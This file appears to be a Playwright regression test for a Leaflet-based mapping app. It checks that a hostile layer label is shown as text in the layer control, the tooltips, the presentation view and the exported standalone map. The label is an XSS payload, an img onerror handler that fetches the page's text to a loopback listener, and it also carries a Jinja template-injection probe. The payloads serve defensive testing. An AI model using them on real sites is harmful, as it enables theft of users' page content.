"""Played in Chromium: a perimeter layer whose label (and source) is HTML
that would send the page's text to a listener. A member opens a link to the layer's map, the
presentation stage shows it, a coordinator exports the standalone map and opens the file: the
label is shown as text everywhere, no image of the label exists, no script of it runs, and the
listener — a real HTTP server on loopback — receives nothing.

Before the fix (35962c1), Leaflet wrote the label with ``innerHTML`` in the layer control and in
the perimeters' tooltips: the listener received the map's text from the member's browser.
"""

from __future__ import annotations

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
import tomlkit
from playwright.sync_api import expect

from tests.browser import LoggedApp, data_folder, no_error, settle, sign_in
from tests.conftest import evaluate_in_map, map_frame

pytestmark = pytest.mark.browser

#: The QPV outlines on the map (the registry's colour for the layer ``qpv``).
QPV_PATH = "path.leaflet-interactive[stroke='#D55E00']"
#: What a person reads of the hostile label once it is text.
SHOWN = "<img src=x onerror="
#: Markers on the map: single pins and clusters.
MARKERS = ".rx-pin, .rx-cluster"


class Listener:
    """An HTTP server on 127.0.0.1 that records every request it receives (the attacker's)."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        received = self.requests

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                received.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_OPTIONS = _record

            def log_message(self, *args) -> None:  # quiet: the test reads self.requests
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]

    def __enter__(self) -> Listener:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_label(port: int) -> str:
    """An image whose error handler marks the document and sends its text to the listener; then
    what Jinja would run (folium read its own output again as a template: « {{ 6*7 }} » was
    written « 42 » in the export, with Python in reach, until carte/verbatim.py)."""
    return (
        "<img src=x onerror=\"window.rxPwned=1;fetch('http://127.0.0.1:%d/vol?'"
        '+encodeURIComponent(document.body.innerText.slice(0,500)))"> «{{ 6*7 }}»' % port
    )


def make_qpv_hostile(folder, port: int) -> str:
    """Give the layer ``qpv`` of the copied registry a hostile label and source; return the label."""
    registry = folder / "geo" / "layers.toml"
    document = tomlkit.parse(registry.read_text(encoding="utf-8"))
    (qpv,) = [layer for layer in document["layer"] if layer["id"] == "qpv"]
    label = hostile_label(port)
    qpv["label"] = label
    qpv["source"] = "<img src=x onerror=\"fetch('http://127.0.0.1:%d/source')\">ANCT" % port
    registry.write_text(tomlkit.dumps(document), encoding="utf-8")
    return label


class Watch:
    """What the browser does toward the listener: requests to its port, dialogs opened."""

    def __init__(self, page, port: int) -> None:
        self.port = port
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        page.on("request", self._request)
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def _request(self, request) -> None:
        if urlsplit(request.url).netloc == f"127.0.0.1:{self.port}":
            self.asked.append(request.url)


@pytest.fixture()
def attack(tmp_path):
    """The data folder with the hostile registry, its settings, the listener and the label."""
    folder, env = data_folder(tmp_path)
    with Listener() as listener:
        yield env, listener, make_qpv_hostile(folder, listener.port)


def open_layer_control(page, scope):
    """Point at the map's layer control, as a person does, until Leaflet has opened its list
    (again if a late rerun of the page drew a new map under the pointer); returns the control."""
    control = scope.locator(".leaflet-control-layers")
    for _attempt in range(3):
        if page is not scope:
            settle(page)
        control.hover()
        try:
            expect(control).to_have_class(re.compile("leaflet-control-layers-expanded"), timeout=60_000)
            break
        except AssertionError:  # the map was drawn anew: point at the new one
            continue
    expect(control).to_have_class(re.compile("leaflet-control-layers-expanded"))
    return control


def hover_a_qpv(page, listener: Listener, watch: Watch) -> None:
    """Move the pointer over a QPV outline, as a person does: its tooltip names the layer."""
    frame = map_frame(page)
    frame.locator(QPV_PATH).first.wait_for(state="attached", timeout=60_000)
    frame.locator(QPV_PATH).first.dispatch_event("mouseover")
    frame.locator(".leaflet-tooltip").last.wait_for(timeout=30_000)
    assert_nothing_ran(frame, in_map(page), listener, watch)
    expect(frame.locator(".leaflet-tooltip").last).to_contain_text(SHOWN)


def assert_nothing_ran(scope, evaluate, listener: Listener, watch: Watch) -> None:
    """No element of the label, no script of it, nothing asked of the listener, no dialog.

    ``scope`` is the map (its frame, or the exported page) and ``evaluate`` runs a function there.
    What was found is said whole: before the fix, the listener's log holds the map's text."""
    found = {
        "images of the label": scope.locator("img[src='x']").count(),
        "its script ran": evaluate("() => window.rxPwned !== undefined"),
        "asked of the listener": watch.asked,
        "received by the listener": listener.requests,
        "dialogs": watch.dialogs,
    }
    assert found == {
        "images of the label": 0,
        "its script ran": False,
        "asked of the listener": [],
        "received by the listener": [],
        "dialogs": [],
    }, found


def in_map(page):
    return lambda script: evaluate_in_map(page, script)


def test_a_member_opening_a_link_to_the_layer_sends_nothing(page, attack):
    env, listener, label = attack
    watch = Watch(page, listener.port)
    with LoggedApp(env) as app:
        page.goto(app.url + "/?couches=qpv")
        sign_in(page, "membre")
        assert "couches=qpv" in page.url
        frame = map_frame(page)
        frame.locator(MARKERS).first.wait_for(timeout=60_000)
        control = open_layer_control(page, frame)
        names = control.locator(".leaflet-control-layers-overlays label")
        names.first.wait_for(timeout=30_000)  # the layers' names are written
        assert_nothing_ran(frame, in_map(page), listener, watch)
        expect(names.filter(has_text=SHOWN)).to_have_count(1)
        expect(names.filter(has_text=SHOWN)).to_be_visible()
        assert any(label in text for text in names.all_inner_texts())
        expect(frame.locator(".rx-legend")).to_contain_text(SHOWN)
        expect(frame.locator(".leaflet-control-attribution")).to_contain_text('onerror="fetch(')
        hover_a_qpv(page, listener, watch)
        settle(page)
        no_error(page)
        assert_nothing_ran(frame, in_map(page), listener, watch)


def test_the_stage_shows_the_label_as_text(page, attack):
    env, listener, label = attack
    watch = Watch(page, listener.port)
    with LoggedApp(env) as app:
        page.goto(app.url + "/presentation?scene=ivg")  # a scene with the QPV
        sign_in(page, "membre")
        page.get_by_role("link", name="Présenter en plein écran").click()
        page.locator(".rx-stage h1").wait_for(timeout=60_000)
        assert "plein_ecran=1" in page.url and "scene=ivg" in page.url
        frame = map_frame(page)
        frame.locator(MARKERS).first.wait_for(timeout=60_000)
        expect(frame.locator(".rx-legend")).to_contain_text(SHOWN)
        expect(frame.locator(".leaflet-control-attribution")).to_contain_text('onerror="fetch(')
        hover_a_qpv(page, listener, watch)
        expect(frame.locator(".leaflet-tooltip").last).to_contain_text(label)
        no_error(page)
        assert_nothing_ran(frame, in_map(page), listener, watch)


#: Content-Security-Policy violations seen by the page, kept from its first script on.
CSP_WATCH = """window.__rxViolations = [];
document.addEventListener("securitypolicyviolation",
  e => window.__rxViolations.push(e.violatedDirective + " " + e.blockedURI));"""


def test_the_standalone_export_opened_from_disk_shows_the_label_as_text(page, browser, attack, tmp_path):
    env, listener, label = attack
    with LoggedApp(env) as app:
        page.goto(app.url + "/presentation?couches=qpv")
        sign_in(page, "coord")
        map_frame(page).locator(MARKERS).first.wait_for(timeout=60_000)
        page.get_by_role("button", name="Préparer la carte autonome (.html)").click()
        page.get_by_role("button", name="Télécharger la carte (.html)").wait_for(timeout=60_000)
        no_error(page)
        with page.expect_download(timeout=120_000) as info:
            page.get_by_role("button", name="Télécharger la carte (.html)").click()
        saved = tmp_path / "carte.html"
        info.value.save_as(saved)

    # Opened from disk, as the person it was sent to: the tiles are cut (offline), the listener
    # is not, so that whatever the file asks of it reaches it.
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    try:
        context.route(
            "**/*",
            lambda route: (
                route.continue_()
                if route.request.url.startswith("file:")
                or urlsplit(route.request.url).netloc == f"127.0.0.1:{listener.port}"
                else route.abort()
            ),
        )
        offline = context.new_page()
        offline.add_init_script(CSP_WATCH)
        watch = Watch(offline, listener.port)
        offline.goto(saved.as_uri())
        offline.locator(MARKERS).first.wait_for(timeout=30_000)  # the map's own scripts ran
        control = open_layer_control(offline, offline)
        control.locator(".leaflet-control-layers-overlays label").first.wait_for(timeout=30_000)
        assert_nothing_ran(offline, offline.evaluate, listener, watch)
        names = control.locator(".leaflet-control-layers-overlays label").filter(has_text=SHOWN)
        expect(names).to_be_visible()
        expect(names).to_contain_text(label)  # « {{ 6*7 }} » as written, not run
        expect(names).not_to_contain_text("«42»")
        expect(offline.locator(".rx-legend")).to_contain_text(SHOWN)
        offline.locator(QPV_PATH).first.dispatch_event("mouseover")
        expect(offline.locator(".leaflet-tooltip").last).to_contain_text(SHOWN)
        assert_nothing_ran(offline, offline.evaluate, listener, watch)
        assert offline.evaluate("() => window.__rxViolations") == []  # its own scripts all allowed
    finally:
        context.close()
